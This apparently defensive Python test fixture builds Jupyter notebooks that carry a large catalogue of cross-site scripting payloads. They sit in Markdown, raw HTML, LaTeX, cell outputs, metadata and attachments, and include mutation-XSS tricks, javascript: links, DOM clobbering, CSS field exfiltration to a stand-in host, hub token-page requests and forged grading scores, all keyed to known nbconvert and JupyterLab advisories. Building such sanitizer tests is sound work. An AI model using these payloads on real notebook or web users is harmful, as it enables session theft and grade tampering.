"""Notebooks that try to act on whoever opens them, by family.

In every text ``JS`` stands for a call that tells the test which payload ran, ``FAR`` for an address elsewhere and
``HUB`` for the hub's page that mints tokens. Sources are named where an old hole is tried again; the numbers 1 to 14
are those of nbconvert's advisory GHSA-9jmq-rx5f-8jwq (CVE-2021-32862).
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

Maker = Callable[[Callable[[str], str]], NotebookNode]


@dataclass(frozen=True)
class Payload:
    """One of them. `html` is what would run if nothing were cleaned; none where only a renderer would make it run."""

    name: str
    make: Maker
    html: str | None = None

    def notebook(self, number: int) -> NotebookNode:
        return self.make(lambda text: filled(text, number))


def filled(text: str, number: int) -> str:
    js = f"pwned({number})"
    text = text.replace("JS64", base64.b64encode(f"<script>parent.{js}</script>".encode()).decode())
    text = text.replace("JS", js).replace("FAR", f"http://elsewhere.invalid/{number}")
    return text.replace("HUB", f"/hub/token?{number}")


def _notebook(cells: list[NotebookNode], metadata: dict[str, Any] | None = None) -> NotebookNode:
    """Unchecked: what a learner saved need not be what the format allows."""
    return from_dict({"cells": cells, "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 5})


# -- raw HTML in Markdown: what an answer, a Friday cell or a comment may hold
HTML = {
    # the finding that this corpus began with; also jupyter/nbviewer#613, ipython/ipython#7488
    "script": "<script>JS</script>",
    "script with a tag inside": "<script><b>JS</b></script><script>JS</script>",
    "script from elsewhere": '<script src="FAR"></script>',
    "script as a module": "<script type=module>JS</script>",
    "script half closed": "<script>JS</script",
    "script upper case": "<ScRiPt>JS</sCrIpT>",
    "script nested": "<scr<script>ipt>JS</scr</script>ipt><script>JS</script>",
    "img onerror": "<img src=x onerror=JS>",  # jupyterlab/jupyterlab#15275
    "img onerror, no blanks": "<img/src=x/onerror=JS>",
    "img onerror, entity": "<img src=x onerror=&#112;wned&lpar;0&rpar;>",
    "img onerror in a quote": "\"'><img src=x onerror=JS>",
    "img from elsewhere": '<img src="FAR">',
    "img of the hub": '<img src="HUB">',
    "img srcset": '<img srcset="FAR 1x">',
    "picture source": '<picture><source srcset="FAR"><img alt=a></picture>',
    "image, the other spelling": "<image src=x onerror=JS>",
    "video source": "<video><source src=x onerror=JS></video>",
    "video poster": '<video poster="FAR"></video>',
    "video onmouseover": '<video onmouseover="JS">hover</video>',  # microsoft/vscode#170428
    "audio": "<audio src=x onerror=JS></audio>",
    "track": '<video src="FAR"><track src="FAR" default></video>',
    "svg onload": "<svg onload=JS></svg>",
    "svg script": "<svg><script>JS</script></svg>",
    "svg animate": "<svg><animate onbegin=JS attributeName=x dur=1s></svg>",
    "svg set href": '<svg><a><set attributeName="href" to="javascript:JS"/><text y=20>click</text></a></svg>',
    "svg use": '<svg><use href="data:image/svg+xml;base64,JS64#x"/></svg>',
    "svg foreignObject": "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
    "svg image": '<svg><image href="FAR"/></svg>',
    "math href": '<math><mtext href="javascript:JS">click</mtext></math>',
    "math to style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">',
    "svg to style": '<svg></p><style><a id="</style><img src=1 onerror=JS>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=JS>">',
    "noembed": '<noembed><img title="</noembed><img src=x onerror=JS>"></noembed>',
    "xmp": '<xmp><p title="</xmp><svg/onload=JS>"></xmp>',
    "template": "<template><img src=x onerror=JS></template><img src=x onerror=JS>",
    "title": '<title><a title="</title><img src=x onerror=JS>"></title>',
    "textarea": "</textarea><img src=x onerror=JS>",
    "style then script": '<style><img title="</style><script>JS</script>"></style>',
    "select": "<select><template><img src=x onerror=JS></template></select><svg onload=JS>",
    "form in form": '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>'
    '<img onerror=JS src=1>"></form>',
    "comment": "<!--><img src=x onerror=JS>-->",
    "conditional": "<![if<iframe/onload=JS>]><img src=x onerror=JS>",
    "cdata": "<![CDATA[<img src=x onerror=JS>]]><svg><![CDATA[><img src=x onerror=JS>]]></svg>",
    "plaintext": "<plaintext><img src=x onerror=JS></plaintext><img src=x onerror=JS>",
    "null in a name": "<scri\0pt>JS</script><img src=x oner\0ror=JS onerror=JS>",
    "a javascript": '<a href="javascript:JS">click</a>',
    "a javascript, entity": '<a href="&#106;ava&Tab;script&colon;JS">click</a>',
    "a javascript, line end": '<a href="java\nscript:JS">click</a>',
    "a javascript, control": '<a href="\x01javascript:JS">click</a>',
    "a data": '<a href="data:text/html;base64,JS64">click</a>',
    "a elsewhere": '<a href="FAR" target="_blank">click</a>',
    "a opener": '<a href="HUB" target="_blank" rel="opener">click</a>',
    "a ping": '<a href="#" ping="FAR">click</a>',
    "area": '<map name=m><area shape=default href="javascript:JS"></map><img usemap=#m src=x alt=click>',
    "input autofocus": "<input autofocus onfocus=JS>",
    "focus by tabindex": "<p tabindex=0 onfocus=JS>focus</p>",
    "contenteditable": "<p contenteditable onblur=JS onfocus=JS>write</p>",
    "details": "<details open ontoggle=JS>more</details>",
    "marquee": "<marquee onstart=JS>m</marquee>",
    "onanimationstart": "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart=JS>b</b>",
    "oncontentvisibility": "<p oncontentvisibilityautostatechange=JS style='content-visibility:auto'>p</p>",
    "onpointerrawupdate": "<p onmouseover=JS onpointerenter=JS>hover</p>",
    "popover": "<button popovertarget=x>click</button><p popover id=x onbeforetoggle=JS>p</p>",
    "iframe": '<iframe src="HUB"></iframe>',
    "iframe javascript": "<iframe src='javascript:parent.JS'></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "object": '<object data="data:text/html;base64,JS64"></object>',
    "embed": '<embed src="HUB">',
    "frameset": "</div></body><frameset onload=JS><frame src=HUB></frameset>",
    "portal and fenced frame": "<portal src=HUB></portal><fencedframe src=HUB></fencedframe>",
    "body onload": "<body onload=JS><img src=x onerror=JS>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=HUB">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>JS</script>',
    "base": '<base href="http://elsewhere.invalid/"><img src="pixel">',
    "form": '<form action="HUB" method=post><button>click</button></form>',
    "form button": '<button form=x formaction="javascript:JS">click</button><form id=x></form>',
    "isindex": "<input type=image src=x onerror=JS>",
    "link sheet": '<link rel=stylesheet href="FAR">',
    "link prefetch": '<link rel=prefetch href="FAR"><link rel=preload as=image href="FAR">',
    "style import": "<style>@import url(FAR);</style>",
    "style attribute": '<p style="background:url(FAR)">p</p>',
    "style reads fields": "<style>input[value^='5']{background:url(FAR)}</style>",
    "style covers the page": "<p style='position:fixed;inset:0;background:url(FAR)'>Sign in again</p>",
    # jupyterlab GHSA-9q39-rmj3-p4r2
    "clobber": "<form id=base_url><input name=toString></form><a id=formgrader name=keyboard_manager href=x>a</a>"
    "<img name=getCookie><a id=MathJax href=FAR>click</a>",
    "clobber a mark": "<input class='score tabbable' id=oversight_check_point value=5>",
    # jupyterlab CVE-2026-42557: a cell's button runs the lab's commands
    "command button": "<button class='full-credit' data-commandlinker-command=x data-toggle=modal>b</button>",
    # bootstrap 3: data attributes that make a tooltip out of HTML (CVE-2018-14040 and its kin)
    "bootstrap tooltip": "<a data-toggle=tooltip data-html=true title='<img src=x onerror=JS>'>hover</a>",
    "bootstrap collapse": "<a data-toggle=collapse data-parent='<img src=x onerror=JS>' href='#x'>click</a>",
    "widget script": '<script type="application/vnd.jupyter.widget-state+json">"</script><script>JS</script>"</script>',
    "importmap": '<script type=importmap>{"imports":{"x":"FAR"}}</script><script type=module>import "x"; JS</script>',
    "declarative shadow": "<div><template shadowrootmode=open><img src=x onerror=JS></template></div>",
}

# -- Markdown's own ways to an address, and text that a renderer may take for HTML
MARKDOWN = {
    "link": "[click](javascript:JS)",
    "link, entity": "[click](&#x6a;avascript:JS)",
    "link, tab": "[click](<java\tscript:JS>)",
    "link, case": "[click](JaVaScRiPt:JS)",
    "link, vbscript and data": "[a](vbscript:JS) [b](data:text/html;base64,JS64)",
    "link title": '[click](# "" onmouseover=JS x="\'><img src=x onerror=JS>")',
    "reference": "[click][r]\n\n[r]: javascript:JS '\"><img src=x onerror=JS>'",
    "autolink": "<javascript:JS> <FAR>",
    "picture": "![a](FAR) ![b](HUB) ![c](javascript:JS)",
    "picture words": '![" onerror="JS](x) ![a](x" onerror="JS)',
    "picture, data svg": "![a](data:image/svg+xml;base64,JS64) ![b](data:text/html;base64,JS64)",
    "picture, data png": '![a](data:image/png;base64,iVBORw0KGgo=" onerror="JS)',
    "link in a link": "[![a](x)](javascript:JS) [<img src=x onerror=JS>](FAR)",
    "fence language": '```"><script>JS</script>\nx\n```\n\n```html\n<script>JS</script>\n```',
    "mermaid": "```mermaid\ngraph TD; A[<img src=x onerror=JS>]; click A 'javascript:JS'\n```",
    "code span": "`</code><script>JS</script>`",
    "indented code": "    </code></pre><script>JS</script>",
    "table": '| a |\n|:-:" onmouseover="JS|\n| <img src=x onerror=JS> |\n\n|a|\n|:-:|\n|<script>JS</script>|',
    "heading": "# <a id='x' onclick=JS>click</a> {#x onclick=JS}",
    "footnote": "[^1]\n\n[^1]: <img src=x onerror=JS> [click](javascript:JS)",
    "entities": "&lt;script&gt;JS&lt;/script&gt; &amp;lt;img src=x onerror=JS&amp;gt;",
    "emoji and wide signs": "😀\uff1cscript\uff1eJS\uff1c/script\uff1e \u2028<img src=x onerror=JS> \ufeff<script>JS",
    "split by lines": "<img\nsrc=x\nonerror=JS\n>\n\n<scr\nipt>JS</scr\nipt>",
    "html block then Markdown": "<div>\n\n[click](javascript:JS)\n\n<script>\nJS\n</script>\n</div>",
    "strip_files_prefix": '<img src="files/x" onerror=JS> [click](files/../../hub/token)',
    # MathJax and KaTeX: their own links, requires and HTML; issues of both, and nbconvert's 12
    "latex link": r"$\href{javascript:JS}{click}$ $$\href{javascript:JS}{click}$$",
    "latex url": r"$\url{javascript:JS}$ $\htmlData{x=1}{a}$ $\includegraphics{FAR}$",
    "latex require": r"$\require{html}\style{background:url(FAR)}{x} \class{score}{x} \cssId{base_url}{x}$",
    "latex unicode": r"$\unicode{x3c}script\unicode{x3e}JS\unicode{x3c}/script\unicode{x3e}$",
    "latex macro": r"$\def\a{</script><script>JS</script>}\a$ $\text{<img src=x onerror=JS>}$",
    "latex environment": "\\begin{equation}<img src=x onerror=JS>\\end{equation}",
    "math across cells": "$$\n<script>JS</script>\n",
}

_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'><script>JS</script><image href='FAR'/></svg>"
_PAGE = "<html><body><script>JS</script><img src=x onerror=JS></body></html>"

# -- outputs of a code cell, by media type
OUTPUTS: dict[str, dict[str, Any]] = {
    "html": {"text/html": _PAGE},  # 5
    "html beside text": {"text/html": _PAGE, "text/plain": "<img src=x onerror=JS>"},  # jsvine/notebookjs#50
    "svg": {"image/svg+xml": _SVG},  # 6, jupyter/nbconvert#1894 and #2018
    "markdown": {"text/markdown": "<img src=x onerror=JS> [click](javascript:JS)"},  # 8
    "javascript": {"application/javascript": "JS"},  # 9
    "javascript, old name": {"text/javascript": "JS"},
    "png that breaks out": {"image/png": 'x"><img src=x onerror=JS>'},  # 11
    "jpeg that is svg": {"image/jpeg": base64.b64encode(b"<svg onload='parent.pwned(0)'/>").decode()},
    "latex": {"text/latex": "</script><script>JS</script>$\\href{javascript:JS}{click}$"},  # 12
    "widget view": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>JS</script>"}},  # 13
    "vdom": {"application/vdom.v1+json": {"tagName": "img", "attributes": {"src": "x", "onerror": "JS"}}},
    "vega": {"application/vnd.vegalite.v5+json": {"data": {"url": "FAR"}, "usermeta": "</script><script>JS</script>"}},
    "plotly": {"application/vnd.plotly.v1+json": {"layout": {"title": "<a href='javascript:JS'>click</a>"}}},
    "bokeh": {"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": "JS"},
    "geojson": {"application/geo+json": {"type": "Point", "properties": {"name": "<img src=x onerror=JS>"}}},
    "json": {"application/json": {"</script><script>JS</script>": "<img src=x onerror=JS>"}},
    "pdf": {"application/pdf": base64.b64encode(b"%PDF-1.4 /JS (app.alert(1))").decode()},
    "latex picture": {"image/svg+xml": _SVG, "text/latex": "$x$"},  # the way of CVE-2025-53000
    "media type with markup": {"text/<img src=x onerror=JS>": "x", 'image/png" onerror="JS': "x"},
}


def _in_markdown(text: str) -> Maker:
    return lambda fill: _notebook(
        cells=[new_markdown_cell(fill(text)), _answer(fill(text)), new_markdown_cell("After it.")]
    )


def _answer(text: str) -> NotebookNode:
    """An oversight answer, as the course's own cell."""
    about = {"grade_id": "oversight_check_point", "grade": True, "solution": True, "points": 5, "schema_version": 3}
    return new_markdown_cell(
        text, metadata={"nbgrader": {**about, "locked": False, "task": False, "cell_type": "markdown"}}
    )


def _in_output(data: dict[str, Any]) -> Maker:
    return lambda fill: _notebook(
        cells=[new_code_cell("x", outputs=[new_output("display_data", data=_deep(data, fill))])]
    )


def _deep(value: Any, fill: Callable[[str], str]) -> Any:
    if isinstance(value, dict):
        return {fill(key): _deep(one, fill) for key, one in value.items()}
    return fill(value) if isinstance(value, str) else value


# -- what a notebook says of itself, and cells that are neither text nor code
_BREAK = "\"></script></style></textarea></title><img src=x onerror=JS>'><script>JS</script>"


def _metadata(**about: Any) -> Maker:
    def make(fill: Callable[[str], str]) -> NotebookNode:
        return _notebook(cells=[new_code_cell("x = 1")], metadata=_deep(about, fill))

    return make


def _cell(**parts: Any) -> Maker:
    """A Markdown answer with parts of its own."""

    def make(fill: Callable[[str], str]) -> NotebookNode:
        cell = _answer("An answer ![p](attachment:a.png)")
        for name, value in _deep(parts, fill).items():
            cell[name] = {**cell[name], **value} if name == "metadata" else value
        return _notebook(cells=[cell])

    return make


def _outputs(*outputs: dict[str, Any]) -> Maker:
    def make(fill: Callable[[str], str]) -> NotebookNode:
        cell = new_code_cell("x")
        cell.outputs = [NotebookNode(_deep(one, fill)) for one in outputs]
        return _notebook(cells=[cell])

    return make


_STATE = {
    "application/vnd.jupyter.widget-state+json": {
        "state": {
            "x": {
                "model_name": "HTMLModel",
                "state": {"value": "<img src=x onerror=JS>", "d": "</script><script>JS</script>"},
            }
        }
    }
}
_DATA = {"output_type": "display_data", "data": {"text/plain": "x"}}
_SHOWN_PICTURE = {"output_type": "display_data", "data": {"image/png": base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()}}
_SCORE = {"grade_id": "evidence", "state": "scored", "points": 1, "max_points": 2, "code": "ok", "reason": "r"}

OTHER: dict[str, Maker] = {
    "lexer": _metadata(language_info={"name": "python", "pygments_lexer": _BREAK}),  # 1
    "title": _metadata(title=_BREAK, authors=[{"name": _BREAK}]),  # 2
    "widget state": _metadata(widgets=_STATE),  # 3, jupyter/nbconvert#1934
    "tags": _cell(metadata={"tags": [_BREAK]}),  # 4
    "svg_filename": _outputs({**_DATA, "svg_filename": _BREAK}),  # 7
    "output filenames": _outputs(
        {**_DATA, "metadata": {"filenames": {"image/svg+xml": _BREAK, "image/png": _BREAK}}}
    ),  # 10
    "picture metadata": _outputs({**_SHOWN_PICTURE, "metadata": {"image/png": {"width": _BREAK, "alt": _BREAK}}}),
    "raw cell": lambda fill: _notebook(  # 14
        cells=[new_raw_cell(fill(_BREAK), metadata={"raw_mimetype": "text/html", "format": "text/html"})]
    ),
    "kernel": _metadata(kernelspec={"name": _BREAK, "display_name": _BREAK, "language": _BREAK}),
    "code mirror": _metadata(language_info={"codemirror_mode": {"name": _BREAK}, "mimetype": _BREAK}),
    "cell id": _cell(id=_BREAK),
    "cell metadata": _cell(metadata={"collapsed": _BREAK, "jupyter": {"source_hidden": _BREAK}, "class": _BREAK}),
    "attachment name": _cell(
        source="![a](attachment:x) ![p](attachment:a.png)", attachments={_BREAK: {"image/png": "eA=="}}
    ),
    "attachment svg": _cell(attachments={"a.png": {"image/svg+xml": base64.b64encode(_SVG.encode()).decode()}}),
    "attachment svg as png": _cell(attachments={"a.png": {"image/png": base64.b64encode(_SVG.encode()).decode()}}),
    "attachment html": _cell(attachments={"a.png": {"text/html": "JS64"}}),
    "attachment that breaks out": _cell(attachments={"a.png": {"image/png": 'eA==" onerror="JS'}}),
    "attachment media type": _cell(attachments={"a.png": {'image/png" onerror="JS': "eA=="}}),
    "grade id": _cell(metadata={"nbgrader": {"grade_id": _BREAK, "grade": True, "solution": True, "points": 5}}),
    "points": _cell(metadata={"nbgrader": {"grade_id": "x", "grade": True, "solution": True, "points": _BREAK}}),
    "code": lambda fill: _notebook(cells=[new_code_cell(fill(f'x = "{_BREAK}"  # {_BREAK}'))]),
    "code language": lambda fill: _notebook(
        cells=[new_code_cell(fill(_BREAK), metadata={"vscode": {"languageId": fill(_BREAK)}, "language": "html"})]
    ),
    "stream": _outputs({"output_type": "stream", "name": _BREAK, "text": _BREAK}),
    "stream with colours": _outputs(
        {
            "output_type": "stream",
            "name": "stdout",
            "text": "\x1b[31m" + _BREAK + "\x1b]8;;javascript:JS\x07click\x1b]8;;\x07",
        }
    ),
    "error": _outputs(
        {"output_type": "error", "ename": _BREAK, "evalue": _BREAK, "traceback": ["\x1b[0;31m" + _BREAK]}
    ),
    "unknown output": _outputs({"output_type": _BREAK, "data": {"text/html": _BREAK}}),
    "a score that is forged": _outputs(
        {
            "output_type": "execute_result",
            "data": {"text/markdown": _BREAK + "[click](javascript:JS)"},
            "metadata": {"mondaylab": _SCORE},
        }
    ),
    "text in lines": lambda fill: _notebook(
        cells=[{"cell_type": "markdown", "metadata": {}, "source": ["<scr", fill("ipt>JS</script>")]}]
    ),
}

PAYLOADS: tuple[Payload, ...] = (
    *(Payload(f"html: {name}", _in_markdown(text), text) for name, text in HTML.items()),
    *(Payload(f"markdown: {name}", _in_markdown(text)) for name, text in MARKDOWN.items()),
    *(Payload(f"output: {name}", _in_output(data)) for name, data in OUTPUTS.items()),
    *(Payload(f"notebook: {name}", make) for name, make in OTHER.items()),
)
